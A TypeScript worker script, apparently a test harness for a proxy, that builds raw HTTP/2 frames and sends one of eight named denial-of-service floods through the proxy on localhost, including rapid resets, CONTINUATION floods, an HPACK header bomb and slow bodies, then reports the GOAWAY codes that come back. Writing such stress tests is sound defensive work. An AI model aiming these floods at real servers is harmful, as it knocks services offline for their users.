/**
 * One flood of HTTP/2 frames against a proxy, from an address and a thread of its own, on connections that are opened
 * again when they end. Tells the code of each GOAWAY that it gets. Ends with the thread.
 */
import { once } from 'node:events';
import net from 'node:net';
import tls from 'node:tls';
import { parentPort } from 'node:worker_threads';

/** The group of this address floods. */
const FROM = '127.0.0.9';
const CONNECTIONS = 2;
const HEADERS = 1;
const CONTINUATION = 9;
const END_STREAM = 1;
const END_HEADERS = 4;

export type H2FloodName =
  | 'rapid resets'
  | 'streams that must be reset'
  | 'PING'
  | 'SETTINGS'
  | 'CONTINUATION'
  | 'a hundred slow bodies'
  | 'header bombs'
  | 'tiny DATA';

/** name of the flood, port of the proxy, authority of the upstream, PEM of the proxy's CA */
const [, , name = '', port = '', at = '', ca = ''] = process.argv;

function frame(kind: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(kind, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Literals that are not indexed; names and values below 127 bytes (RFC 7541 section 6.2.2). */
function section(method: string, more: readonly (readonly [string, string])[] = []): Buffer {
  const all = [[':method', method], [':scheme', 'https'], [':authority', at], [':path', '/flood'], ...more];
  return Buffer.concat(
    all.flatMap(([key = '', value = '']) => [
      Buffer.from([0, key.length]),
      Buffer.from(key),
      Buffer.from([value.length]),
      Buffer.from(value),
    ]),
  );
}

const GET = section('GET');
const POST = section('POST');
const SHORT = section('POST', [['content-length', '1']]);
const CANCEL = Buffer.from([0, 0, 0, 8]);
const NONE = Buffer.alloc(0);
/** A value in the dynamic table, and so many fields that name it: a byte each (the HPACK bomb). */
const VALUE = 3_000;
const BOMB = Buffer.concat([
  GET,
  Buffer.from([0x40, 1, 0x61, 0x7f, ((VALUE - 127) % 128) | 0x80, Math.floor((VALUE - 127) / 128)]),
  Buffer.alloc(VALUE, 'x'),
  Buffer.alloc(12_000, 0x80 | 62),
]);

const times = (count: number, make: (n: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, n) => make(n)));
const idOf = (n: number): number => 2 * n + 1;

type Flood = {
  /** first of all on a connection */
  readonly begin?: Buffer;
  /** the batch of that number; null: no more of it on this connection */
  batch(turn: number): Buffer | null;
  /** milliseconds between batches */
  readonly every: number;
};

const FLOODS: Readonly<Record<H2FloodName, Flood>> = {
  'rapid resets': {
    every: 2,
    batch: (turn) =>
      times(50, (n) => {
        const id = idOf(turn * 50 + n);
        return Buffer.concat([frame(HEADERS, END_STREAM | END_HEADERS, id, GET), frame(3, 0, id, CANCEL)]);
      }),
  },
  'streams that must be reset': {
    every: 2,
    batch: (turn) =>
      times(50, (n) => {
        const id = idOf(turn * 50 + n);
        return Buffer.concat([
          frame(HEADERS, END_HEADERS, id, SHORT),
          frame(0, END_STREAM, id, Buffer.from('xx')),
        ]);
      }),
  },
  PING: { every: 2, batch: () => times(200, () => frame(6, 0, 0, Buffer.alloc(8))) },
  SETTINGS: { every: 2, batch: () => times(200, () => frame(4, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0]))) },
  CONTINUATION: {
    every: 2,
    begin: frame(HEADERS, END_STREAM, 1, GET),
    batch: () => times(50, () => frame(CONTINUATION, 0, 1, Buffer.from([0, 1, 0x61, 1, 0x62]))),
  },
  'a hundred slow bodies': {
    every: 200,
    begin: times(100, (n) => frame(HEADERS, END_HEADERS, idOf(n), POST)),
    batch: () => times(100, (n) => frame(0, 0, idOf(n), Buffer.from('b'))),
  },
  'header bombs': {
    every: 2,
    batch: (turn) => frame(HEADERS, END_STREAM | END_HEADERS, idOf(turn), BOMB),
  },
  'tiny DATA': {
    every: 10,
    begin: frame(HEADERS, END_HEADERS, 1, POST),
    // No more than the window that a connection begins with.
    batch: (turn) => (turn < 300 ? times(200, () => frame(0, 0, 1, Buffer.from('b'))) : null),
  },
};

async function connect(): Promise<tls.TLSSocket> {
  const raw = net.connect({ host: '127.0.0.1', port: Number(port), localAddress: FROM });
  raw.write(`CONNECT ${at} HTTP/1.1\r\nHost: ${at}\r\n\r\n`);
  await once(raw, 'data');
  const servername = at.slice(0, at.lastIndexOf(':'));
  const socket = tls.connect({ socket: raw, ca, servername, ALPNProtocols: ['h2'] });
  await once(socket, 'secureConnect');
  socket.on('error', () => socket.destroy());
  let held = NONE;
  socket.on('data', (bytes: Buffer) => {
    held = Buffer.concat([held, bytes]);
    while (held.length >= 9 && held.length >= 9 + held.readUIntBE(0, 3)) {
      if (held[3] === 7) parentPort?.postMessage(held.readUInt32BE(13));
      held = held.subarray(9 + held.readUIntBE(0, 3));
    }
  });
  socket.on('end', () => socket.destroy());
  return socket;
}

async function pause(ms: number): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>();
  setTimeout(resolve, ms);
  await promise;
}

async function play(flood: Flood): Promise<void> {
  const socket = await connect();
  const closed = once(socket, 'close').catch(() => []);
  socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, NONE)]));
  if (flood.begin !== undefined) socket.write(flood.begin);
  for (let turn = 0; !socket.destroyed; turn += 1) {
    const bytes = flood.batch(turn);
    if (bytes === null) break;
    if (!socket.write(bytes)) await Promise.race([once(socket, 'drain').catch(() => []), closed]);
    await pause(flood.every);
  }
  socket.destroy();
}

async function forever(flood: Flood): Promise<void> {
  for (;;) {
    // A connection that was not let in is tried again. Not at once: this is no flood of handshakes.
    await play(flood).catch(() => {});
    await pause(100);
  }
}

const [, chosen] = Object.entries(FLOODS).find(([known]) => known === name) ?? [];
if (chosen === undefined) throw new Error(`no flood ${name}`);
for (let n = 0; n < CONNECTIONS; n += 1) void forever(chosen);
